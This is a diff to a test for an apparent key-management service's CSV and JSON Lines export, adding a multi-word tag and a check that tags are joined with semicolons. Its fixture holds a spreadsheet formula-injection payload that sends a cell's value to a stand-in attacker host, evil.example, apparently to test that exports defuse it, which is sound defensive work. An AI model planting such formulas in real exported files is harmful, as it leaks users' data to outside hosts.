@@ -12,7 +12,7 @@ test('a list is written as CSV and as JSON Lines, narrowed as the list is, and h
   const evil = '=HYPERLINK("http://evil.example?x="&A1,"click")';
   await putKeys(keyward, 'acme1', [
     { appname: 'evil', description: evil, tags: ['out'], state: 'disabled', disabledReason: 'secret issued by x' },
-    { appname: 'plain', description: 'one, "two"', tags: ['out'], owner: 'gone@example.com' },
+    { appname: 'plain', description: 'one, "two"', tags: ['out', 'two words'], owner: 'gone@example.com' },
   ]);
   const csv = await keyward.ok('GET', '/api/v1/key-export?format=csv&tag=out', { as });
   assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
@@ -25,6 +25,7 @@ test('a list is written as CSV and as JSON Lines, narrowed as the list is, and h
       ['plain', 'one, "two"', '', 'gone@example.com'],
     ],
   );
+  assert.equal(rows[1]?.['tags'], 'out;two words', 'as an import reads them');
   const all = await keyward.ok('GET', '/api/v1/key-export?format=jsonl', { as });
   assert.equal(all.headers['content-type'], 'application/x-ndjson; charset=utf-8');
   const records = all.text
